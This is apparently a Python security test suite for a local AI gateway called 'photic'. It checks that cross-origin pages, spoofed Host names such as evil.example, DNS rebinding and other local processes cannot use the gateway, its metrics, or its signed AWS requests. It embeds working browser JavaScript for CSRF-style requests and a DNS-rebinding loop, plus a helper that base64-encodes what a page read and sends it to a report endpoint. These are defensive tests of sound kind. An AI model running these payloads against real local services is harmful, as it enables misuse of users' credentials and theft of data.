"""Pages and other hosts: what a web page, a name that leads to this machine, or another process can do."""
import atexit, base64, contextlib, json, os, subprocess

import harness
from harness import Upstream, attack, clean_environment, folder, free_port, harm_if, serving, until
from running import CHAT, CONVERSE, Run, ask

EVIL = "https://evil.example"
made = {}


def shared():
    """One gateway with a port for operators."""
    if not made:
        made["upstream"], made["admin"] = Upstream(), free_port()
        made["photic"] = serving(made["upstream"], f"[admin]\nlisten = '127.0.0.1:{made['admin']}'\n")
        atexit.register(made["photic"].close)
    return made["photic"], made["upstream"], made["admin"]


def asked(method="POST", path="/v1/chat/completions", body=CHAT, **headers):
    """A request as a page has a browser send it; no upstream may get it."""
    photic, upstream, _ = shared()
    before = len(upstream.requests)
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    photic.ask(method, path, body, headers)
    harm_if(len(upstream.requests) > before, "an upstream was asked")


for name, known in {
    "a simple request of a page": dict(origin=EVIL, content_type="text/plain"),
    "a form of a page": dict(origin=EVIL, content_type="application/x-www-form-urlencoded"),
    "an upload of a page": dict(origin=EVIL, content_type="multipart/form-data; boundary=x", path="/v1/files"),
    "a page of a file": dict(origin="null", content_type="text/plain"),
    "a page of another port": dict(origin="http://localhost:8000", content_type="text/plain"),
    "a page of an extension": dict(origin="chrome-extension://abcdef", content_type="text/plain"),
    "a preflight of a page": dict(method="OPTIONS", body=None, origin=EVIL, access_control_request_method="POST"),
    "a picture on a page": dict(method="GET", path="/v1/models", body=None, sec_fetch_site="cross-site",
                                sec_fetch_mode="no-cors", sec_fetch_dest="image"),
    "a link from another site": dict(method="GET", path="/v1/models", body=None, sec_fetch_site="same-site",
                                     sec_fetch_mode="navigate"),
    "a name that leads here": dict(host="evil.example"),
    "a name that leads here, with the port": dict(host="evil.example:4141"),
    "a name that leads here, to read": dict(method="GET", path="/v1/models", body=None, host="127.0.0.1.evil.example"),
    "an address that is not loopback's": dict(host="192.168.0.7"),
    "0.0.0.0, which is no name of ours": dict(host="0.0.0.0"),
}.items():
    attack(4, name, **known)(asked)


def told(**headers):
    """The operators' port; `/metrics` tells what callers do."""
    _, _, admin = shared()
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    status, _, body = ask(f"http://127.0.0.1:{admin}/metrics", "GET", None, headers)
    harm_if(status == 200 and b"photic" in body, "a page reads the figures")


attack(4, "operators: a name that leads here", host="evil.example")(told)
attack(4, "operators: a page", origin=EVIL)(told)
attack(4, "operators: a page without an origin", sec_fetch_site="cross-site")(told)


def signed(headers, path="/model/anthropic.claude-x/converse"):
    """`photic run` has the user's credentials of Amazon: a page has requests signed with them."""
    with Upstream() as amazon:
        variables = {"AWS_REGION": "eu-west-1", "AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "s",
                     "AWS_ENDPOINT_URL_BEDROCK_RUNTIME": amazon.url}
        with Run(variables=variables) as run:
            ask(f"http://127.0.0.1:{run.port}{path}", "POST", CONVERSE, headers)
        harm_if(amazon.requests, "a request was signed and sent")


attack(4, "run: a page has a request signed", headers={"origin": EVIL, "content-type": "text/plain"})(signed)
attack(4, "run: a name that leads here has a request signed", headers={"host": "evil.example"})(signed)
attack(4, "run: another process has a request signed", headers={})(signed)


@attack(4, "run: another process uses it")
def another_process():
    with Upstream() as upstream, Run(variables={"OPENAI_BASE_URL": upstream.url + "/v1"}) as run:
        for path in ("/v1/chat/completions", "/openai/v1/chat/completions", "/0/openai/v1/chat/completions"):
            ask(f"http://127.0.0.1:{run.port}{path}", "POST", CHAT)
        harm_if(upstream.requests, "an upstream was asked")


@attack(4, "run: another process asks what it does")
def another_process_reads():
    with Upstream() as upstream, Run(variables={"OPENAI_BASE_URL": upstream.url + "/v1"}) as run:
        told = [path for path in ("/metrics", "/health", "/ready")
                if ask(f"http://127.0.0.1:{run.port}{path}", "GET")[0] == 200]
        harm_if(told, f"{told} are answered")


def mocked(**headers):
    """The mock keeps a journal of what it was asked."""
    with folder() as place:
        (place / "home").mkdir()
        mock = subprocess.Popen([harness.PHOTIC, "mock"], stdout=subprocess.PIPE, env=clean_environment(place / "home"))
        try:
            url = mock.stdout.readline().decode().strip()
            headers = {name.replace("_", "-"): value for name, value in headers.items()}
            status, _, _ = ask(f"{url}/v1/models", "GET", None, headers)
            harm_if(status == 200, "it is answered")
        finally:
            mock.kill()
            mock.wait()


attack(4, "mock: a name that leads here", host="evil.example")(mocked)
attack(4, "mock: a page", origin=EVIL)(mocked)


def opened(listen):
    """A gateway that anybody in the network may use, and nobody said so."""
    with Upstream() as upstream, folder() as place:
        (place / "home").mkdir()
        port = free_port()
        photic = subprocess.Popen([harness.PHOTIC, "serve", "--listen", listen.format(port=port), "--upstream",
                                   upstream.url], cwd=place, env=clean_environment(place / "home"),
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        try:
            said = b""
            while line := photic.stderr.readline():
                said += line
                harm_if(b"listening on" in line, "it listens for everybody")
            harm_if(b"--open" not in said, f"it does not say what to do: {said!r}")
        finally:
            photic.kill()
            photic.wait()


attack(4, "serve: open to the network", listen="0.0.0.0:{port}")(opened)
attack(4, "serve: open to the network by IPv6", listen="[::]:{port}")(opened)

# A real browser.

WAYS = """
const body = JSON.stringify({model: "gpt-4o", messages: [{role: "user", content: "hello"}]});
const quiet = promise => promise.catch(() => "");
const text = async reply => (await reply).text();
const ways = {
  plain: to => text(fetch(to, {method: "POST", headers: {"content-type": "text/plain"}, body})),
  nocors: to => text(fetch(to, {method: "POST", mode: "no-cors", body})),
  cors: to => text(fetch(to, {method: "POST", headers: {"content-type": "application/json"}, body})),
  get: to => text(fetch(to)),
  beacon: async to => { navigator.sendBeacon(to, body); return ""; },
  form: to => new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random(); form.target = frame.name; form.method = "POST"; form.action = to;
    form.enctype = "text/plain"; form.innerHTML = "<input name='{}' value='1'>";
    document.body.append(frame, form); frame.onload = () => done(""); form.submit(); setTimeout(() => done(""), 1500);
  }),
  img: to => new Promise(done => {
    const img = new Image(); img.onload = img.onerror = () => done(""); img.src = to; setTimeout(() => done(""), 1500);
  }),
  script: to => new Promise(done => {
    const one = document.createElement("script"); one.onload = one.onerror = () => done(""); one.src = to;
    document.body.append(one); setTimeout(() => done(""), 1500);
  }),
  events: to => new Promise(done => {
    const one = new EventSource(to); one.onerror = () => { one.close(); done(""); }; one.onmessage = m => done(m.data);
    setTimeout(() => done(""), 1500);
  }),
  socket: to => new Promise(done => {
    const one = new WebSocket(to.replace("http", "ws")); one.onerror = one.onclose = () => done("");
    one.onopen = () => done("open"); setTimeout(() => done(""), 1500);
  }),
};
async function tried(targets) {
  const read = {};
  await Promise.all(Object.entries(targets).flatMap(([target, to]) => Object.entries(ways).map(async ([way, go]) => {
    read[target + " " + way] = await quiet(go(to + (to.includes("?") ? "&" : "?") + "via=" + way));
  })));
  return read;
}
"""
NAMES = ("plain", "nocors", "cors", "get", "beacon", "form", "img", "script", "events", "socket")


class Page:
    """A server of pages; `read` is what its page could read, once that was reported."""

    def __init__(self, script, port=0):
        self.read, page = None, f"<!doctype html><body><script>{WAYS}{script}</script>".encode()

        def answer(request):
            if request.path.startswith("/report"):
                self.read = json.loads(base64.b64decode(request.path.split("?")[1] + "=="))
            # Each on a connection of its own: the name is to lead elsewhere later.
            return 200, {"content-type": "text/html", "access-control-allow-origin": "*", "connection": "close"}, page
        self.upstream = Upstream(answer)
        self.port = self.upstream.port


REPORT = ("const report = (where, read) => fetch(where + '/report?' + btoa(JSON.stringify(read)).replaceAll('=', ''), "
          "{mode: 'no-cors'});")


@contextlib.contextmanager
def browsing(*addresses):
    """Chromium with pages open; `evil.example` leads to this machine."""
    if not os.access("/usr/bin/chromium", os.X_OK):
        raise harness.Skipped("there is no chromium")
    with folder() as place:
        (place / "home").mkdir()
        browser = subprocess.Popen(
            ["/usr/bin/chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-dev-shm-usage", "--no-proxy-server", f"--user-data-dir={place}/profile",
             "--host-resolver-rules=MAP evil.example 127.0.0.1", *addresses],
            env=clean_environment(place / "home"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True)
        try:
            yield
        finally:
            os.killpg(browser.pid, 9)
            browser.wait()


def browsed():
    """What one page tried against a gateway, a `photic run` and `photic mcp --http`; by address and by name."""
    if "read" in made:
        return
    photic, upstream, _ = shared()
    place = made["mcp folder"] = folder()
    root = place.__enter__()
    (root / "home").mkdir()
    port = free_port()
    mcp = subprocess.Popen([harness.PHOTIC, "mcp", "--root", str(root), "--http", f"127.0.0.1:{port}"], cwd=root,
                           env=clean_environment(root / "home"), stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    mcp.stderr.readline()
    run = Run(variables={"OPENAI_BASE_URL": upstream.url + "/v1"})
    targets = {}
    for name in ("127.0.0.1", "evil.example"):
        for target, to in (("serve", f"{photic.port}/v1/chat/completions"), ("run", f"{run.port}/v1/responses"),
                           ("mcp", f"{port}/mcp")):
            targets[f"{target} {name}"] = f"http://{name}:{to}?at={target}-{name}"
    page = Page(REPORT + f"tried({json.dumps(targets)}).then(read => report(location.origin, read));")
    try:
        with browsing(f"http://localhost:{page.port}/"):
            until(lambda: page.read is not None, "the page is done")
        made["read"] = page.read
        made["seen"] = [request.path for request in upstream.requests if "at=" in request.path]
    finally:
        run.close()
        mcp.kill()
        mcp.wait()
        place.__exit__(None, None, None)


def by_page(target, way, name):
    browsed()
    seen = [path for path in made["seen"] if f"at={target}-{name}" in path and f"via={way}" in path]
    harm_if(seen, f"an upstream was asked: {seen[0].split('?')[0] if seen else ''}")
    harm_if(made["read"].get(f"{target} {name} {way}"), "the page read an answer")


for target in ("serve", "run"):
    for way in NAMES:
        for name in ("127.0.0.1", "evil.example"):
            attack(4, f"a browser to {target} at {name}: {way}", target=target, way=way, host=name)(
                lambda target, way, host: by_page(target, way, host))


@attack(4, "guard: a browser to mcp --http")
def browser_to_mcp():
    browsed()
    read = {what: text for what, text in made["read"].items() if what.startswith("mcp") and text}
    harm_if(read, f"the page read {read}")


@attack(4, "a browser whose page's name leads here later")
def rebinding():
    """The page comes from a port of its own; then its server is gone, and the same name and port are photic's."""
    with Upstream() as upstream:
        reporter = Page("")
        where = f"http://localhost:{reporter.port}"
        script = REPORT + f"""
        (async () => {{
          for (;;) {{
            await new Promise(done => setTimeout(done, 100));
            let reply; try {{ reply = await fetch("/v1/chat/completions", {{method: "POST", body}}); }} catch {{ continue; }}
            const text = await reply.text();
            if (text.includes("<!doctype")) continue;
            return report("{where}", {{status: reply.status, text}});
          }}
        }})();"""
        page = Page(script)
        with browsing(f"http://evil.example:{page.port}/"):
            until(lambda: any("completions" in one.path for one in page.upstream.requests), "the page is there")
            page.upstream.close()
            with serving(upstream, port=page.port):
                until(lambda: reporter.read is not None, "the page is done")
        harm_if(upstream.requests, "an upstream was asked")
        harm_if("seen" in reporter.read["text"], "the page read the answer")
